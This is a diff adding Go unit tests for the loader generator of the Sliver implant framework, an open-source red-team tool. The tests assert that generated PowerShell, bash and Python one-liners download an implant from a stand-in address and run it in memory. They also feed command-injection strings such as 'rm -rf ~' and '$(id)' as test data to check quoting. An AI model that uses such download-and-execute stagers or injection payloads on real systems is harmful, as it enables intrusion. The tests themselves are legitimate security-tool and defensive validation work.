@@ -0,0 +1,108 @@
+package generate
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/base64"
+	"errors"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+)
+
+func TestWindowsShellcodeLoaders(t *testing.T) {
+	config := &clientpb.ImplantConfig{Name: "CLEVER_OTTER", GOOS: "windows", GOARCH: "386", Format: clientpb.OutputFormat_SHELLCODE}
+	loaders, err := Loaders(config, "http://10.0.0.1:8080/a.woff", true, false, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(loaders) != 2 || loaders[0].Type != LoaderPowerShell || loaders[1].Type != LoaderPython {
+		t.Fatalf("Unexpected loaders %v", loaders)
+	}
+
+	powershell := loaders[0].Command
+	if !strings.Contains(powershell, `SysWOW64`) {
+		t.Errorf("386 shellcode should run in 32-bit powershell: %s", powershell)
+	}
+	encoded := powershell[strings.LastIndex(powershell, " ")+1:]
+	raw, err := base64.StdEncoding.DecodeString(encoded)
+	if err != nil {
+		t.Fatal(err)
+	}
+	runes := make([]uint16, len(raw)/2)
+	for index := range runes {
+		runes[index] = uint16(raw[index*2]) | uint16(raw[index*2+1])<<8
+	}
+	script := string(utf16.Decode(runes))
+	for _, want := range []string{"DownloadData('http://10.0.0.1:8080/a.woff')", "$b=$b[4..", "VirtualAlloc", "CreateThread"} {
+		if !strings.Contains(script, want) {
+			t.Errorf("Script is missing %q: %s", want, script)
+		}
+	}
+	if strings.Contains(script, "Add-Type") || strings.Contains(script, "IEX") {
+		t.Errorf("Script should not compile or IEX: %s", script)
+	}
+	if !strings.Contains(loaders[1].Command, ".read()[4:]") {
+		t.Errorf("Python loader doesn't skip the size: %s", loaders[1].Command)
+	}
+}
+
+func TestLinuxExecutableLoaders(t *testing.T) {
+	config := &clientpb.ImplantConfig{Name: "CLEVER_OTTER", GOOS: "linux", GOARCH: "arm64", Format: clientpb.OutputFormat_EXECUTABLE}
+	loaders, err := Loaders(config, "https://10.0.0.1/a", false, true, []string{"bash"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(loaders) != 1 {
+		t.Fatalf("Unexpected loaders %v", loaders)
+	}
+	bash := loaders[0].Command
+	for _, want := range []string{"curl -fsSL -k 'https://10.0.0.1/a'", "syscall(279,", `"CLEVER_OTTER"`} {
+		if !strings.Contains(bash, want) {
+			t.Errorf("Bash loader is missing %q: %s", want, bash)
+		}
+	}
+	if strings.Contains(bash, "tail") {
+		t.Errorf("Bash loader skips a size that isn't there: %s", bash)
+	}
+
+	if _, err := Loaders(config, "https://10.0.0.1/a", false, false, []string{"powershell"}); !errors.Is(err, ErrNoLoaders) {
+		t.Errorf("Expected no powershell loader for linux, got %v", err)
+	}
+	config.Name = "x'; rm -rf ~"
+	loaders, _ = Loaders(config, "https://10.0.0.1/a", false, false, []string{"python"})
+	if strings.Contains(loaders[0].Command, "rm -rf") {
+		t.Errorf("Unsafe build name was quoted: %s", loaders[0].Command)
+	}
+}
+
+func TestLoaderStageURL(t *testing.T) {
+	config := &clientpb.ImplantConfig{GOOS: "linux", GOARCH: "amd64", Format: clientpb.OutputFormat_EXECUTABLE}
+	for _, stageURL := range []string{"tcp://10.0.0.1:8080", "http://", "http://10.0.0.1/a';id;'", "http://10.0.0.1/$(id)"} {
+		if _, err := Loaders(config, stageURL, false, false, nil); err == nil {
+			t.Errorf("Expected an error for %q", stageURL)
+		}
+	}
+	config.GOOS = "darwin"
+	if _, err := Loaders(config, "http://10.0.0.1/a", false, false, nil); !errors.Is(err, ErrNoLoaders) {
+		t.Errorf("Expected no loaders for darwin, got %v", err)
+	}
+}